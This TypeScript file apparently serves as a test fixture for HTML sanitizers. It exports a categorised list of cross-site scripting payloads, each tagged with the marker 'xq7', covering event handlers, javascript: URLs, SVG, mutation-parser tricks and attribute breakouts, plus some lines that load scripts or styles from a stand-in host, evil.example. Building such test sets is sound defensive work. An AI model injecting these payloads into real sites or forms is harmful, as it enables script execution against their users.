/** What stands in each hostile text, and in nothing that is ours. */
export const mark = 'xq7'

/**
 * Texts that are markup wherever a page, a form or a mail lets a text be more than text, by the way they try it. Each has
 * its mark in a tag, an attribute or an address: a node that comes of it is told by it.
 */
export const hostileTexts: Readonly<Record<string, readonly string[]>> = {
  'a script': [
    '<script>xq7()</script>',
    '<ScRiPt src=//evil.example/xq7.js></sCrIpT>',
    '<script >xq7()</script >',
    '<script/xq7>xq7()</script>',
    '<<script>xq7();//<</script>',
    '<script type=module>import("//evil.example/xq7.js")</script>',
    '<noscript><p title="</noscript><img src=x onerror=xq7()>">',
  ],
  'an event handler': [
    '<img src=x onerror=xq7()>',
    '<IMG SRC=x ONERROR="xq7()">',
    '<img/src="x"/onerror=xq7()>',
    '<body onload=xq7()>',
    '<input autofocus onfocus=xq7()>',
    '<details open ontoggle=xq7()>xq7</details>',
    '<video><source onerror=xq7()></video>',
    '<marquee onstart=xq7()>xq7</marquee>',
    '<button popovertarget=xq7 onclick=xq7()>xq7</button>',
  ],
  'an address that is a program': [
    '<a href="javascript:xq7()">xq7</a>',
    '<a href="jav&#x09;ascript:xq7()">xq7</a>',
    '<a href=" &#14; javascript:xq7()">xq7</a>',
    '<iframe src="javascript:xq7()"></iframe>',
    '<form action="javascript:xq7()"><input type=submit></form>',
    '<object data="data:text/html;base64,eHE3"></object xq7>',
    'javascript:xq7()',
    'data:text/html,<script>xq7()</script>',
  ],
  'a drawing': [
    '<svg onload=xq7()>',
    '<svg><script>xq7()</script></svg>',
    '<svg><a xlink:href="javascript:xq7()"><text y=20>xq7</text></a></svg>',
    '<svg><animate onbegin=xq7() attributeName=x dur=1s>',
    '<svg><use href="data:image/svg+xml,<svg id=xq7 onload=xq7()>#xq7">',
    '<svg><foreignObject><body onload=xq7()></foreignObject></svg>',
  ],
  'tags that change places when they are read again': [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xq7()&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=xq7()>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=xq7()>',
    '<noembed><img title="</noembed><img src onerror=xq7()>"></noembed>',
    '<table><td><select><template><img src=x onerror=xq7()>',
    '<p id="xq7"><b><p><i></b><img src=x onerror=xq7()></i>',
  ],
  'a style': [
    '<style>@import "//evil.example/xq7.css";</style>',
    '<link rel=stylesheet href=//evil.example/xq7.css>',
    '<div style="background:url(javascript:xq7())">xq7</div>',
    '<xss id=xq7 style="position:fixed;inset:0">xq7</xss>',
  ],
  'the end of what it stands in': [
    '</title><script>xq7()</script>',
    '</textarea><img src=x onerror=xq7()>',
    '</script><script>xq7()</script>',
    '</style><svg onload=xq7()>',
    '--><img src=x onerror=xq7()><!--',
    ']]><script>xq7()</script>',
    '</bdi></p></li></ul></main><h1 id=xq7>xq7</h1>',
    '</template><img src=x onerror=xq7()>',
  ],
  'a template': [
    '{{constructor.constructor("xq7()")()}}<i id=xq7>',
    '${xq7()}<i id=xq7>',
    '<%= xq7() %><i id=xq7>',
    '<template shadowrootmode=open><slot id=xq7></slot></template>',
  ],
  'the end of an attribute': [
    '" onmouseover="xq7()" x="',
    "' onmouseover='xq7()' x='",
    '" autofocus onfocus=xq7() x="',
    '"><img src=x onerror=xq7()>',
    "'><svg onload=xq7()>",
    '` onmouseover=xq7() `',
    'x onmouseover=xq7()',
    '\\"><img src=x onerror=xq7()>',
  ],
  'what turns the whole page': [
    '<meta http-equiv=refresh content="0;url=javascript:xq7()">',
    '<base href="//evil.example/xq7/">',
    '<plaintext id=xq7>',
    '<!--xq7',
    '<?xml version="1.0"?><xq7>',
    '<![CDATA[<xq7>]]>',
  ],
  'what is markup once it was decoded': [
    '&lt;script&gt;xq7()&lt;/script&gt;',
    '&#60;img src=x onerror=xq7()&#62;',
    '%3Cscript%3Exq7()%3C/script%3E',
    '\uff1cscript\uff1exq7()\uff1c/script\uff1e',
    '\\u003cimg src=x onerror=xq7()\\u003e',
  ],
}

/** All of them. */
export const everyHostileText: readonly string[] = Object.values(hostileTexts).flat()
